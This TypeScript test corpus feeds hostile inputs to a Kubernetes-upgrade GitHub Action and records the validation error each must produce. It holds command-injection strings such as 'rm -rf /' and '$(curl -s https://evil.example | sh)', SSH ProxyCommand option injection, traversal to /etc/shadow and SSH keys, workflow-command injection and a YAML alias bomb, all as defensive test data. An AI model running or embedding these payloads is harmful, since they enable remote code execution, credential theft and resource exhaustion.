// The hostile-input corpus (issue #10, "Make it a suite that stays"): for every action.yml input and every
// inventory field, values an attacker or a careless generator could hand the Action — shell metacharacters,
// $(…), backticks, newlines, workflow commands (::set-output), path traversal, huge values, unicode look-alikes,
// YAML tricks — and the first line of the error each must produce, before any node or API is contacted.
// A few inputs are free text by nature (a token, known_hosts lines, the rollback confirmation): they are
// `inert`, with the reason the value can do no harm; test/hostile/corpus.test.ts checks that reason holds.
// test/hostile/corpus.test.ts runs all of it through the pure parsing; test/e2e/hostile-inputs.test.ts runs a
// representative part through the bundle against a simulated cluster and checks that no node saw a command.

export type CorpusCase =
  /** `input` is an action.yml input; `value` replaces the valid base value */
  | { input: string; value: string; first: string; e2e?: true }
  /** a free-text input the Action accepts: `why` says where it goes (checked in the corpus test) */
  | { input: string; value: string; inert: 'masked-secret' | 'known-hosts-lines' | 'compared-to-cluster-name'; e2e?: true };

export interface InventoryCase {
  /** the inventory field (as InputProblem.input names it, or the YAML trick) */
  field: string;
  /** the whole inventory YAML */
  yaml: string;
  first: string;
  e2e?: true;
}

const big = 'a'.repeat(100_000);

/** Every action.yml input at least once (corpus.test.ts checks the coverage). */
export const INPUT_CASES: CorpusCase[] = [
  {
    input: 'command',
    value: 'plan; rm -rf /',
    first:
      'command: "plan; rm -rf /" is not one of plan, upgrade, control-plane, workers, node, verify, backup, rollback. Fix: use one of: plan, upgrade, control-plane, workers, node, verify, backup, rollback',
  },
  {
    input: 'command',
    value: 'plan\n::set-output name=outcome::succeeded',
    first:
      'command: "plan\\n::set-output name=outcome::succeeded" is not one of plan, upgrade, control-plane, workers, node, verify, backup, rollback. Fix: use one of: plan, upgrade, control-plane, workers, node, verify, backup, rollback',
  },
  {
    input: 'target-version',
    value: '1.31$(id)',
    first:
      'target-version: "1.31$(id)" is not a Kubernetes version (expected v1.31.4, 1.31.4 or 1.31; pre-releases as 1.32.0-rc.1). Fix: use v1.31.4, 1.31.4, or 1.31 for the newest published 1.31 patch',
    e2e: true,
  },
  {
    input: 'target-version',
    value: '1.31\n::stop-commands::x',
    first:
      'target-version: "1.31\\n::stop-commands::x" is not a Kubernetes version (expected v1.31.4, 1.31.4 or 1.31; pre-releases as 1.32.0-rc.1). Fix: use v1.31.4, 1.31.4, or 1.31 for the newest published 1.31 patch',
  },
  {
    input: 'inventory',
    value: '../../etc/passwd',
    first:
      'inventory: path "../../etc/passwd" is outside the workspace ${WS}. Fix: keep the inventory file in the repository (not a symlink to a file outside it) and give its path relative to the workspace',
  },
  {
    input: 'inventory',
    value: '-oProxyCommand=id',
    first:
      'inventory: "-oProxyCommand=id" is not a usable path. Fix: give a path relative to the workspace, such as .github/inventory.yaml',
  },
  {
    input: 'inventory',
    value: 'symlink-out.yaml',
    first:
      'inventory: path "symlink-out.yaml" is outside the workspace ${WS}: it resolves to "/etc/passwd" through a symlink. Fix: keep the inventory file in the repository (not a symlink to a file outside it) and give its path relative to the workspace',
    e2e: true,
  },
  {
    input: 'kubeconfig',
    value: '$(curl -s https://evil.example | sh)',
    first:
      'kubeconfig: kubeconfig has no current context with a cluster: set current-context. Fix: pass the whole kubeconfig file (as kubectl uses it), with its certificates inline',
  },
  {
    input: 'ssh-private-key',
    value: '`id`',
    first:
      'ssh-private-key: does not look like a private key (no "-----BEGIN … PRIVATE KEY-----" line). Fix: pass the whole key file from a secret: ssh-private-key: ${{ secrets.SSH_PRIVATE_KEY }}',
  },
  { input: 'ssh-known-hosts', value: '::set-output name=outcome::succeeded\n$(id) ssh-ed25519 AAAA', inert: 'known-hosts-lines' },
  {
    input: 'ssh-user',
    value: 'root$(id)',
    first:
      'ssh-user: "root$(id)" may contain only letters, digits, ".", "_" and "-", starting with a letter or "_". Fix: use a plain login name such as root or ubuntu',
    e2e: true,
  },
  {
    input: 'ssh-user',
    value: 'ｒｏｏｔ',
    first:
      'ssh-user: "ｒｏｏｔ" may contain only letters, digits, ".", "_" and "-", starting with a letter or "_". Fix: use a plain login name such as root or ubuntu',
  },
  {
    input: 'ssh-user',
    value: big,
    first:
      'ssh-user: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…" is 100000 characters long (at most 32). Fix: use a plain login name such as root or ubuntu',
  },
  { input: 'ssh-port', value: '22;id', first: 'ssh-port: "22;id" is not a whole number from 1 to 65535. Fix: use a number such as 22' },
  {
    input: 'ssh-jump-host',
    value: 'bastion@host:22 -oProxyCommand=id',
    first:
      'ssh-jump-host: "bastion@host:22 -oProxyCommand=id" is not of the form user@host:port. Fix: use user@host:port, for example bastion@203.0.113.5:22 (user and port are optional)',
    e2e: true,
  },
  {
    input: 'ssh-insecure-skip-host-key-check',
    value: 'true && id',
    first: 'ssh-insecure-skip-host-key-check: "true && id" is not a boolean. Fix: use true or false',
  },
  {
    input: 'transport',
    value: 'local\n::set-output name=x::y',
    first: 'transport: "local\\n::set-output name=x::y" is not one of ssh, local. Fix: use one of: ssh, local',
  },
  {
    input: 'max-unavailable',
    value: '`id`',
    first:
      'max-unavailable: "`id`" is neither a node count (1 or more) nor a percentage. Fix: use a count such as 2 or a percentage such as 20%',
  },
  {
    input: 'batch-by-label',
    value: 'zone$(id)',
    first:
      'batch-by-label: "zone$(id)" is not a label key: it may contain only letters, digits, "-", "_" and ".", starting and ending with a letter or digit. Fix: use a node label key such as topology.kubernetes.io/zone',
  },
  { input: 'force', value: 'true; reboot', first: 'force: "true; reboot" is not a boolean. Fix: use true or false' },
  { input: 'github-token', value: 'ghs_$(id)`id`', inert: 'masked-secret' },
  {
    input: 'pr-comment',
    value: 'always;id',
    first: 'pr-comment: "always;id" is not one of auto, always, never. Fix: use one of: auto, always, never',
  },
  { input: 'parallelism', value: '1e9', first: 'parallelism: "1e9" is not a whole number from 1 to 256. Fix: use a number such as 10' },
  {
    input: 'drain-timeout',
    value: '5m$(id)',
    first: 'drain-timeout: "5m$(id)" is not a duration. Fix: use a duration such as 5m (units ms, s, m, h; a bare number is seconds)',
  },
  {
    input: 'drain-grace-period',
    value: '30$(id)',
    first:
      'drain-grace-period: "30$(id)" is not a number of seconds. Fix: use seconds such as 30, or leave it empty for each pod\'s own grace period',
  },
  { input: 'delete-emptydir-data', value: 'ja', first: 'delete-emptydir-data: "ja" is not a boolean. Fix: use true or false' },
  { input: 'force-drain-unmanaged', value: '$(id)', first: 'force-drain-unmanaged: "$(id)" is not a boolean. Fix: use true or false' },
  {
    input: 'drain-pod-selector',
    value: 'app=$(id)',
    first:
      'drain-pod-selector: "app=$(id)" is not a label selector: "app=$(id)": "$(id)" is not a label value. Fix: use a label selector such as app!=db or tier in (web,cache)',
  },
  {
    input: 'drain-fallback-delete',
    value: '`reboot`',
    first: 'drain-fallback-delete: "`reboot`" is not a boolean. Fix: use true or false',
  },
  { input: 'allow-pending-pods', value: 'true\nid', first: 'allow-pending-pods: "true\\nid" is not a boolean. Fix: use true or false' },
  {
    input: 'batch',
    value: '0;id',
    first: 'batch: "0;id" is not a batch index. Fix: pass the batch of a worker-matrix entry: batch: ${{ matrix.batch }}',
  },
  {
    input: 'lock-ttl',
    value: '30m\n::save-state name=lock::x',
    first:
      'lock-ttl: "30m\\n::save-state name=lock::x" is not a duration. Fix: use a duration such as 30m (units ms, s, m, h; a bare number is seconds)',
  },
  {
    input: 'graceful-apiserver-stop',
    value: '20s; id',
    first:
      'graceful-apiserver-stop: "20s; id" is neither true/false nor a duration. Fix: use true (waits 20s, as the upstream docs do), false, or a wait such as 30s',
  },
  { input: 'certificate-renewal', value: 'nein', first: 'certificate-renewal: "nein" is not a boolean. Fix: use true or false' },
  { input: 'etcd-upgrade', value: '##[add-mask]true', first: 'etcd-upgrade: "##[add-mask]true" is not a boolean. Fix: use true or false' },
  {
    input: 'verify-workload',
    value: 'pause:3.10;id',
    first:
      'verify-workload: "pause:3.10;id" is not an image reference. Fix: use a small image such as registry.k8s.io/pause:3.10, or leave it empty',
  },
  {
    input: 'node-ready-timeout',
    value: '../5m',
    first: 'node-ready-timeout: "../5m" is not a duration. Fix: use a duration such as 5m (units ms, s, m, h; a bare number is seconds)',
  },
  {
    input: 'package-lock-timeout',
    value: "2m'",
    first: 'package-lock-timeout: "2m\'" is not a duration. Fix: use a duration such as 2m (units ms, s, m, h; a bare number is seconds)',
  },
  {
    input: 'api-retry-budget',
    value: '2m`id`',
    first: 'api-retry-budget: "2m`id`" is not a duration. Fix: use a duration such as 2m (units ms, s, m, h; a bare number is seconds)',
  },
  {
    input: 'allow-kubeconfig-exec',
    value: 'yes; curl x | sh',
    first: 'allow-kubeconfig-exec: "yes; curl x | sh" is not a boolean. Fix: use true or false',
  },
  {
    input: 'node-name',
    value: '../../etc/shadow',
    first:
      'node-name: "../../etc/shadow" is not a node name. Fix: use the Node object\'s name, or leave it empty for this machine\'s host name',
  },
  { input: 'dry-run', value: 'false || id', first: 'dry-run: "false || id" is not a boolean. Fix: use true or false' },
  { input: 'backup', value: 'tru\u0435', first: 'backup: "truе" is not a boolean. Fix: use true or false' },
  {
    input: 'backup-keep',
    value: '3$(id)',
    first: 'backup-keep: "3$(id)" is not a whole number from 1 to 1000. Fix: use a number such as 3',
  },
  {
    input: 'backup-encryption-recipients',
    value: 'age1$(id)',
    first:
      'backup-encryption-recipients: "age1$(id)" is not an age recipient: it is not bech32 (no prefix, separator "1" and checksum). Fix: give age public keys (age1…), one per line; `age-keygen -y key.txt` prints one',
  },
  {
    input: 'backup-upload',
    value: 'encrypted\n::set-output name=outcome::succeeded',
    first:
      'backup-upload: "encrypted\\n::set-output name=outcome::succeeded" is not one of encrypted, unencrypted, none. Fix: use one of: encrypted, unencrypted, none',
  },
  {
    input: 'artifact-retention-days',
    value: '90 ; id',
    first: 'artifact-retention-days: "90 ; id" is not a whole number from 1 to 400. Fix: use a number such as 90',
  },
  { input: 'collect-kubeadm-backups', value: '1', first: 'collect-kubeadm-backups: "1" is not a boolean. Fix: use true or false' },
  {
    input: 'etcd-endpoints',
    value: 'https://$(id):2379',
    first:
      'etcd-endpoints: "https://$(id):2379" is not an etcd client URL: it has host "$(id)", which is neither an IP address nor a host name: it contains characters other than letters, digits, "-" and ".". Fix: write https URLs of a host and a port, such as https://10.0.0.5:2379, comma-separated',
    e2e: true,
  },
  {
    input: 'etcd-ca',
    value: '/etc/etcd/ca.crt\n::set-output name=x::y',
    first:
      'etcd-ca: "/etc/etcd/ca.crt\\n::set-output name=x::y" is not an absolute path of letters, digits, ".", "_", "-", "+" and "@" (no "." or ".." parts, at most 4096 characters). Fix: give the file\'s path on the control-plane nodes, as in ClusterConfiguration etcd.external, such as /etc/kubernetes/pki/etcd/ca.crt',
  },
  {
    input: 'etcd-cert',
    value: '/etc/etcd/../../root/.ssh/id_rsa',
    first:
      'etcd-cert: "/etc/etcd/../../root/.ssh/id_rsa" is not an absolute path of letters, digits, ".", "_", "-", "+" and "@" (no "." or ".." parts, at most 4096 characters). Fix: give the file\'s path on the control-plane nodes, as in ClusterConfiguration etcd.external, such as /etc/kubernetes/pki/etcd/ca.crt',
  },
  {
    input: 'etcd-key',
    value: '/etc/etcd/client.key$(id)',
    first:
      'etcd-key: "/etc/etcd/client.key$(id)" is not an absolute path of letters, digits, ".", "_", "-", "+" and "@" (no "." or ".." parts, at most 4096 characters). Fix: give the file\'s path on the control-plane nodes, as in ClusterConfiguration etcd.external, such as /etc/kubernetes/pki/etcd/ca.crt',
    e2e: true,
  },
  { input: 'confirm-rollback', value: 'prod$(id)`id`', inert: 'compared-to-cluster-name' },
  {
    input: 'rollback-source',
    value: '../../../etc',
    first:
      'rollback-source: path "../../../etc" is outside the workspace ${WS}. Fix: unpack the backup into a folder inside the workspace and give its path relative to it, or give an absolute path on the runner',
  },
  {
    input: 'rollback-source',
    value: 'symlink-out',
    first:
      'rollback-source: path "symlink-out" is outside the workspace ${WS}: it resolves to "${DIR}/outside" through a symlink. Fix: unpack the backup into a folder inside the workspace and give its path relative to it, or give an absolute path on the runner',
  },
];

/** "Billion laughs": ten levels of ten aliases each (10^10 strings if expanded). */
function aliasBomb(): string {
  const lines = ['x0: &x0 "lol"'];
  for (let i = 1; i <= 10; i++)
    lines.push(
      `x${i}: &x${i} [${Array(10)
        .fill(`*x${i - 1}`)
        .join(', ')}]`,
    );
  return `${lines.join('\n')}\n${node('')}`;
}

const node = (fields: string) => `nodes:\n  - { name: cp-1, address: 10.0.0.10, role: control-plane${fields} }\n`;

/** Every inventory field at least once, plus YAML tricks. */
export const INVENTORY_CASES: InventoryCase[] = [
  {
    field: 'cluster',
    yaml: `cluster: "prod$(id)"\n${node('')}`,
    first:
      'inventory: cluster: must be 1-63 letters, digits, ".", "_" or "-", starting and ending with a letter or digit. Fix: use a short name such as prod-eu',
  },
  {
    field: 'defaults.user',
    yaml: `defaults: { user: "root;id" }\n${node('')}`,
    first:
      'inventory: defaults.user: "root;id" may contain only letters, digits, ".", "_" and "-", starting with a letter or "_". Fix: use a plain login name such as root or ubuntu',
  },
  {
    field: 'defaults.port',
    yaml: `defaults: { port: "22;id" }\n${node('')}`,
    first: 'inventory: defaults.port: Invalid input: expected number, received string. Fix: use a port number from 1 to 65535',
  },
  {
    field: 'defaults.transport',
    yaml: `defaults: { transport: "ssh -oProxyCommand=id" }\n${node('')}`,
    first: 'inventory: defaults.transport: Invalid option: expected one of "ssh"|"local". Fix: use ssh or local',
  },
  {
    field: 'nodes[].name',
    yaml: 'nodes:\n  - { name: "cp-1$(id)", address: 10.0.0.10, role: control-plane }\n',
    first:
      'inventory: nodes[0].name: "cp-1$(id)" contains characters other than letters, digits, "-" and ".". Fix: use the Node name exactly as kubectl get nodes shows it',
    e2e: true,
  },
  {
    field: 'nodes[].name',
    yaml: 'nodes:\n  - { name: "cp-1\\n::set-output name=outcome::succeeded", address: 10.0.0.10, role: control-plane }\n',
    first:
      'inventory: nodes[0].name: "cp-1\\n::set-output name=outcome::succeeded" contains whitespace. Fix: use the Node name exactly as kubectl get nodes shows it',
  },
  {
    field: 'nodes[].address',
    yaml: 'nodes:\n  - { name: cp-1, address: "-oProxyCommand=id", role: control-plane }\n',
    first:
      'inventory: nodes[0].address: "-oProxyCommand=id" is neither an IP address nor a host name: it starts with "-" (it would be read as a command-line option). Fix: use an IP address (10.0.0.10, fd00::10) or a host name (node-1.example.com); no spaces, quotes or shell characters',
    e2e: true,
  },
  {
    field: 'nodes[].address',
    yaml: 'nodes:\n  - { name: cp-1, address: "10.0.0.10;id", role: control-plane }\n',
    first:
      'inventory: nodes[0].address: "10.0.0.10;id" is neither an IP address nor a host name: it contains characters other than letters, digits, "-" and ".". Fix: use an IP address (10.0.0.10, fd00::10) or a host name (node-1.example.com); no spaces, quotes or shell characters',
  },
  {
    field: 'nodes[].role',
    yaml: 'nodes:\n  - { name: cp-1, address: 10.0.0.10, role: "master`id`" }\n',
    first: 'inventory: nodes[0].role: Invalid option: expected one of "control-plane"|"worker". Fix: use control-plane or worker',
  },
  {
    field: 'nodes[].user',
    yaml: node(', user: "`id`"'),
    first:
      'inventory: nodes[0].user: "`id`" may contain only letters, digits, ".", "_" and "-", starting with a letter or "_". Fix: use a plain login name such as root or ubuntu',
    e2e: true,
  },
  {
    field: 'nodes[].port',
    yaml: node(', port: 0'),
    first: 'inventory: nodes[0].port: is not a TCP port (1-65535). Fix: use a port number from 1 to 65535',
  },
  {
    field: 'nodes[].transport',
    yaml: node(', transport: rsh'),
    first: 'inventory: nodes[0].transport: Invalid option: expected one of "ssh"|"local". Fix: use ssh or local',
  },
  {
    field: 'nodes[].labels (key)',
    yaml: node(', labels: { "zone$(id)": a }'),
    first:
      'inventory: nodes[0].labels.zone$(id): label key "zone$(id)" may contain only letters, digits, "-", "_" and ".", starting and ending with a letter or digit. Fix: use Kubernetes label syntax: key prefix/name of at most 63 characters, value of at most 63 characters',
  },
  {
    field: 'nodes[].labels (value)',
    yaml: node(', labels: { zone: "a;id" }'),
    first:
      'inventory: nodes[0].labels.zone: label value "a;id" may contain only letters, digits, "-", "_" and ".", starting and ending with a letter or digit. Fix: use Kubernetes label syntax: key prefix/name of at most 63 characters, value of at most 63 characters',
  },
  {
    field: 'nodes[].batch',
    yaml: node(', batch: -1'),
    first:
      'inventory: nodes[0].batch: Too small: expected number to be >=0. Fix: use a whole number; workers with the same number share a batch',
  },
  {
    field: 'nodes[].hostKeyFingerprint',
    yaml: node(', hostKeyFingerprint: "SHA256:$(id)"'),
    first:
      'inventory: nodes[0].hostKeyFingerprint: is not an OpenSSH SHA256 fingerprint ("SHA256:" and 43 base64 characters, as ssh-keygen -lf prints). Fix: copy it from ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub (the SHA256:… part)',
  },
  {
    field: 'unknown key',
    yaml: node(', adress: 10.0.0.11'),
    first:
      'inventory: nodes[0]: has unknown key "adress" (did you mean "address"?). Fix: use only: name, address, role, user, port, transport, labels, batch, hostKeyFingerprint',
  },
  {
    field: 'YAML: alias bomb',
    yaml: aliasBomb(),
    first:
      'inventory: expands too many YAML aliases (Excessive alias count indicates a resource exhaustion attack); refusing it as a resource-exhaustion attack. Fix: write the nodes out, or use fewer anchors and aliases',
  },
  {
    field: 'YAML: duplicate key',
    yaml: `nodes: []\n${node('')}`,
    first:
      'inventory: has a duplicate key at line 2 (Map keys must be unique at line 2, column 1:). Fix: keep each key once per mapping; a later duplicate would silently override the earlier one',
  },
  {
    field: 'YAML: custom tag',
    yaml: `cluster: !!js/function "function(){ return 1 }"\n${node('')}`,
    first:
      'inventory: cluster: must be 1-63 letters, digits, ".", "_" or "-", starting and ending with a letter or digit. Fix: use a short name such as prod-eu',
  },
  {
    field: 'YAML: second document',
    yaml: `${node('')}---\nnodes: []\n`,
    first:
      'inventory: is not valid YAML at line 3: Source contains multiple documents; please use YAML.parseAllDocuments() at line 3, column 1:. Fix: fix the YAML syntax at that line',
  },
  {
    field: 'YAML: merge key overriding the address',
    yaml: 'nodes:\n  - &n { name: cp-1, address: 10.0.0.10, role: control-plane }\n  - { <<: *n, name: cp-2, address: "$(id)" }\n',
    first:
      'inventory: nodes[1].address: "$(id)" is neither an IP address nor a host name: it contains characters other than letters, digits, "-" and ".". Fix: use an IP address (10.0.0.10, fd00::10) or a host name (node-1.example.com); no spaces, quotes or shell characters',
  },
];
